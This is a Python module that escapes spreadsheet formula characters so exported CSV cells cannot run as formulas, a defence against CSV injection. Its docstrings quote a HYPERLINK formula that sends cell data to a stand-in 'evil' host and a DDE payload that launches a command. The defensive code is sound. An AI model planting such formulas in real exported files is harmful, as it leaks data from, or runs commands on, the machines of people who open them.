"""CSV for spreadsheets: text cells never run as formulas.

A name such as ``=HYPERLINK("http://evil/?"&A1, "click")`` written to a CSV file
becomes a live formula when the file is opened in Excel, LibreOffice or Google
Sheets (CSV injection). Every CSV that teamsim writes goes through
:func:`csv_text`: a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab,
a carriage return or a newline gets a leading single quote, and every text cell
is quoted; numbers stay numbers (a negative number is written as ``-3``).

References
----------
.. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import csv
import io
import numbers
from collections.abc import Iterable, Mapping, Sequence

__all__ = ["csv_cell", "csv_lines", "csv_text"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP; plus newline).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def csv_cell(value: object) -> object:
    """One cell, safe for a spreadsheet: a number as it is, anything else as neutral text.

    Parameters
    ----------
    value : object
        A cell value. Numbers (``int``, ``float``, ``bool``, numpy numbers) are kept;
        ``None`` and NaN become ``""``; anything else is ``str(value)``.

    Returns
    -------
    object
        The number, or the text with a ``'`` in front when it starts like a formula.

    Examples
    --------
    >>> csv_cell("=1+2"), csv_cell("-x"), csv_cell("@SUM(A1)"), csv_cell("\\tx")
    ("'=1+2", "'-x", "'@SUM(A1)", "'\\tx")
    >>> csv_cell(-3), csv_cell(2.5), csv_cell("Ann"), csv_cell(None), csv_cell(float("nan"))
    (-3, 2.5, 'Ann', '', '')
    """
    if isinstance(value, numbers.Number):
        return "" if value != value else value  # NaN: an empty cell
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(rows: Iterable[Mapping[str, object]], columns: Sequence[str] | None = None) -> str:
    """CSV text of ``rows`` (dicts) with every cell passed through :func:`csv_cell`.

    Parameters
    ----------
    rows : iterable of mapping
        One dict per row.
    columns : sequence of str, optional
        Column order (and header); default: the keys of the rows in first-seen order.
        A missing key is an empty cell.

    Returns
    -------
    str
        A header line and one line per row (``\\n`` line ends); text cells are quoted,
        numbers are not.

    Examples
    --------
    >>> print(csv_text([{"name": "=cmd|' /C calc'!A0", "gain": -2}, {"name": "Ann", "gain": 1.5}]),
    ...       end="")
    "name","gain"
    "'=cmd|' /C calc'!A0",-2
    "Ann",1.5
    """
    rows = list(rows)
    if columns is None:
        columns = list(dict.fromkeys(k for r in rows for k in r))
    return csv_lines([columns, *([r.get(c) for c in columns] for r in rows)])


def csv_lines(rows: Iterable[Sequence[object]]) -> str:
    """CSV text of ``rows`` (lists of cells, of any lengths), every cell through :func:`csv_cell`.

    Parameters
    ----------
    rows : iterable of sequence
        One list of cells per line (a header is just the first list).

    Returns
    -------
    str
        One line per row (``\\n`` line ends); text cells are quoted, numbers are not.

    Examples
    --------
    >>> print(csv_lines([["Hires"], ["name", "gain"], ["=cmd", -2]]), end="")
    "Hires"
    "name","gain"
    "'=cmd",-2
    """
    out = io.StringIO()
    w = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n")
    for r in rows:
        w.writerow([csv_cell(c) for c in r])
    return out.getvalue()
